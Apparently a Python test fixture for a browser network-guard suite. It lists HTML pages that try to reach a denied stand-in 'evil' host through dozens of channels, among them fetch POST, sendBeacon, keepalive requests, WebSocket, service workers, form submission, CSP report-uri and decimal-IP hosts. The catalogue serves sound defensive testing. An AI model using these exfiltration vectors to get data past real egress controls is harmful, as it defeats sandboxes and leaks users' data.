"""The bypass vectors of the platform notes (§4) as pages, for tests/guards/test_vectors.py.

Each vector is an HTML page served by the *allowed* host; ``{T}`` is the target origin (the evil
host in the deny run, the same host *listed* in the paired run) and every request it makes there
has a path under ``/v/<name>/`` so the paired run can prove that exactly this vector reached it.
``{A}`` is the allowed origin (for redirectors on the allowed host), ``{U}`` the UDP port.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Vector:
    name: str
    page: str  # HTML; {T} target origin, {A} allowed origin, {N} vector name, {E} evil port, {U} udp port
    # Records the deny run must show: (request kind, guard) alternatives; () = the browser reports nothing
    kinds: frozenset[str] = frozenset({"subresource"})
    target: str = "evil"  # "evil" (evil.localhost), "ip" (127.0.0.1), "ipdec" (2130706433)
    pair: str = "reach"  # "reach": the paired run's target host received /v/<name>/; else a special proof
    headers: dict[str, str] = field(default_factory=dict)
    click: str | None = None  # a selector to click after load (user-gesture vectors)


S = "<script>{}</script>"
V: list[Vector] = [
    Vector("img", '<img src="{T}/v/{N}/x.png">'),
    Vector("script", '<script src="{T}/v/{N}/x.js"></script>'),
    Vector("stylesheet", '<link rel="stylesheet" href="{T}/v/{N}/x.css">'),
    Vector("css_import", '<style>@import url("{T}/v/{N}/a.css");</style>'),
    Vector("css_background", '<style>body{{background:url("{T}/v/{N}/bg.png")}}</style><p>bg</p>'),
    Vector("font", '<style>@font-face{{font-family:X;src:url("{T}/v/{N}/x.woff")}} p{{font-family:X}}</style><p>f</p>'),
    Vector("preload", '<link rel="preload" as="image" href="{T}/v/{N}/x.png">'),
    Vector("prefetch", '<link rel="prefetch" href="{T}/v/{N}/x">'),
    Vector("iframe", '<iframe src="{T}/v/{N}/"></iframe>'),
    Vector("srcdoc_img", '<iframe srcdoc="<img src=&quot;{T}/v/{N}/x.png&quot;>"></iframe>'),
    Vector(
        "srcdoc_fetch",
        '<iframe srcdoc="<script>fetch(&quot;{T}/v/{N}/&quot;, {{mode: &quot;no-cors&quot;}})</script>"></iframe>',
    ),
    Vector("window_open", S.format('window.open("{T}/v/{N}/")'), frozenset({"popup"})),
    Vector("window_open_noopener", S.format('window.open("{T}/v/{N}/", "_blank", "noopener")'), frozenset({"popup"})),
    Vector(
        "open_blank_write",
        S.format('const w = window.open("about:blank"); w.document.write(\'<img src="{T}/v/{N}/x.png">\')'),
    ),  # judged by the browser layer like any image (test_network_gate: once held by the context route)
    Vector("target_blank", '<a id="go" target="_blank" href="{T}/v/{N}/">go</a>', frozenset({"popup"}), click="#go"),
    Vector("meta_refresh", '<meta http-equiv="refresh" content="0;url={T}/v/{N}/">', frozenset({"navigation"})),
    Vector("location", S.format('setTimeout(() => {{ location.href = "{T}/v/{N}/" }}, 50)'), frozenset({"navigation"})),
    Vector("redirect_nav", S.format('setTimeout(() => {{ location.href = "/r/{N}" }}, 50)'), frozenset({"redirect"})),
    Vector("redirect_img", '<img src="/r/{N}">', frozenset({"redirect"})),
    # Recorded when Chromium reports the hop as ERR_NAME_NOT_RESOLVED; ~1 run in 4 it fails the
    # hop otherwise (no event to record). The zero-bytes assertion holds either way.
    Vector("redirect_fetch", S.format('fetch("/r/{N}")'), frozenset()),
    Vector("redirect_iframe", '<iframe src="/r/{N}"></iframe>', frozenset({"redirect"})),
    Vector("fetch", S.format('fetch("{T}/v/{N}/", {{mode: "no-cors"}})')),
    Vector("fetch_post", S.format('fetch("{T}/v/{N}/", {{method: "POST", mode: "no-cors", body: "secret=1"}})')),
    Vector("xhr", S.format('const x = new XMLHttpRequest(); x.open("GET", "{T}/v/{N}/"); x.send()')),
    Vector("beacon", S.format('navigator.sendBeacon("{T}/v/{N}/", "data")')),
    Vector(
        "keepalive_pagehide",
        S.format(
            'addEventListener("pagehide", () => fetch("{T}/v/{N}/", '
            '{{method: "POST", body: "bye", keepalive: true, mode: "no-cors"}}))'
        ),
        # the route never sees it (the page is gone); the browser-level layer does, and records the refusal
        frozenset({"subresource"}),
    ),
    Vector("websocket", S.format('new WebSocket("{T}/v/{N}/".replace("http", "ws"))'), frozenset({"websocket"})),
    Vector("eventsource", S.format('new EventSource("{T}/v/{N}/")')),
    Vector(
        "worker_fetch",
        S.format('new Worker("/worker.js?t=" + encodeURIComponent("{T}/v/{N}/"))'),
        frozenset({"worker", "subresource"}),
    ),
    Vector(
        "service_worker",
        S.format(
            'navigator.serviceWorker.register("/sw.js?t=" + encodeURIComponent("{T}/v/{N}/"))'
            '.then(() => {{ document.title = "sw-registered" }}, () => {{ document.title = "sw-refused" }})'
        ),
        frozenset(),
        pair="sw_blocked",
    ),
    Vector("dynamic_import", S.format('import("{T}/v/{N}/x.js").catch(() => 0)')),
    Vector("a_ping", '<a id="go" href="/landing" ping="{T}/v/{N}/">go</a>', frozenset(), pair="no_pings", click="#go"),
    Vector(
        "form_post",
        '<form id="f" method="post" action="{T}/v/{N}/"><input name="card" value="4111"></form>'
        + S.format('document.getElementById("f").submit()'),
        frozenset({"navigation"}),
    ),
    Vector(
        "form_get_iframe",
        '<iframe name="sink"></iframe><form id="f" target="sink" action="{T}/v/{N}/"><input name="q" value="x"></form>'
        + S.format('document.getElementById("f").submit()'),
    ),
    Vector("object", '<object data="{T}/v/{N}/x"></object>'),
    Vector("embed", '<embed src="{T}/v/{N}/x">'),
    Vector("video", '<video src="{T}/v/{N}/x.mp4" autoplay muted></video>'),
    Vector("audio_source", '<audio autoplay><source src="{T}/v/{N}/x.mp3"></audio>'),
    Vector("svg_image", '<svg><image href="{T}/v/{N}/x.png" width="10" height="10"/></svg>'),
    Vector("img_srcset", '<img srcset="{T}/v/{N}/x.png 1x">'),
    Vector(
        "download",
        '<a id="go" download href="{T}/v/{N}/x.bin">dl</a>',
        frozenset({"navigation", "download"}),
        click="#go",
    ),
    Vector(
        "csp_report",
        '<img src="/blocked-by-csp.png">',
        frozenset({"subresource", "other", "worker"}),
        headers={"Content-Security-Policy": "img-src 'none'; report-uri {T}/v/{N}/"},
    ),
    Vector("ip_literal", '<img src="{T}/v/{N}/x.png">', target="ip"),
    Vector("ip_decimal", '<img src="{T}/v/{N}/x.png">', target="ipdec"),
    Vector(
        "ip_literal_nav",
        S.format('setTimeout(() => {{ location.href = "{T}/v/{N}/" }}, 50)'),
        frozenset({"navigation"}),
        target="ip",
    ),
]
VECTORS: dict[str, Vector] = {v.name: v for v in V}
assert len(VECTORS) == len(V)
